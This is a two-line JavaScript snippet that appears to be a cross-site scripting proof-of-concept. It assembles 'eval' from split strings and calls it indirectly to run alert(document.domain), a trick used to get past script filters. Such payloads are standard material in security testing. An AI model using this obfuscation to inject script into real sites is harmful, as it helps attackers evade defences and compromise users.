var a = 'ev', b = 'al';
window[a + b]('alert(document.domain)'); //@act
